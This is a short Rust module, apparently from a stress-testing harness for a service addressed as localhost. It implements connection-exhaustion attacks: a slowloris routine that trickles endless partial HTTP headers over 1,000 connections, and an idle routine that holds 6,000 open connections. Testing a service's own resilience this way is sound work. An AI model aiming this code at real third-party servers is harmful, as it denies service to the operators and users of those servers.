//! Connections that take room and ask nothing.

use std::time::Duration;

use futures::future::join_all;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::target::Target;

const CRAWLING: usize = 1_000;

/// More than there may be in all, from addresses each of which may have half of that.
const IDLE: usize = 6_000;

/// Between two bytes of whoever crawls, and before somebody comes back whom the host let go.
const PAUSE: Duration = Duration::from_millis(500);

/// Heads of requests that come a byte at a time and never end.
pub async fn slow_loris(target: Target) {
    join_all((0..CRAWLING).map(|number| crawl(target.clone(), number))).await;
}

async fn crawl(target: Target, number: usize) {
    let begun = ["GET /v1/lo", "GET /v1/log HTTP/1.1\r\nhost: localhost\r\nx: "][number % 2];
    loop {
        if let Ok(mut stream) = target.connect(number).await {
            let _ = stream.write_all(begun.as_bytes()).await;
            while stream.write_all(b"x").await.is_ok() {
                tokio::time::sleep(PAUSE).await;
            }
            target.did("ended by the host", 1);
        }
        tokio::time::sleep(PAUSE).await;
    }
}

/// Connections that asked once, and stay.
pub async fn idle(target: Target) {
    join_all((0..IDLE).map(|number| stay(target.clone(), number))).await;
}

async fn stay(target: Target, number: usize) {
    loop {
        if let Ok(mut stream) = target.connect(number).await {
            let _ = stream.write_all(b"GET /healthz HTTP/1.1\r\nhost: localhost\r\n\r\n").await;
            let mut answer = [0; 512];
            while stream.read(&mut answer).await.is_ok_and(|read| read > 0) {}
            target.did("ended by the host", 1);
        }
        tokio::time::sleep(PAUSE).await;
    }
}
